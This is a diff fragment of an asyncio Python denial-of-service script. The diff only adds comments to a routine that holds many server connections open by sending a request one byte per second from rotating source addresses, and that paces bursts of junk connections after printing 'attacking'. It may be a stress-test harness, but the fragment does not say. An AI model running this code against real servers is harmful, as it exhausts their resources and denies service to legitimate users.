@@ -40,13 +40,13 @@ async def slow(port: int) -> None:
         try:
             reader, writer = await asyncio.open_connection(HOST, port, local_addr=(random.choice(SOURCES), 0))
         except OSError:
-            await asyncio.sleep(1)
+            await asyncio.sleep(1)  # nothing tells when there is room
             continue
         counts["slow"] += 1
         try:
             for number in itertools.cycle(range(len(REQUEST))):
                 writer.write(REQUEST[number : number + 1])
-                await asyncio.sleep(1)
+                await asyncio.sleep(1)  # the slowness is the attack
                 if reader.at_eof() or writer.transport.is_closing():
                     break
         finally:
@@ -79,13 +79,13 @@ async def main(port: int, slow_ones: int, junk_per_second: int) -> None:
     for number in range(slow_ones):
         tasks.add(loop.create_task(slow(port)))
         if number % 50 == 0:
-            await asyncio.sleep(0.01)
+            await asyncio.sleep(0.01)  # not all in one burst
     print("attacking", flush=True)
     start = loop.time()
     for number in itertools.count():
         if ended.is_set():
             break
-        await asyncio.sleep(max(0, start + number / junk_per_second - loop.time()))
+        await asyncio.sleep(max(0, start + number / junk_per_second - loop.time()))  # the pace is the attack's
         task = loop.create_task(junk(port))
         tasks.add(task)
         task.add_done_callback(tasks.discard)
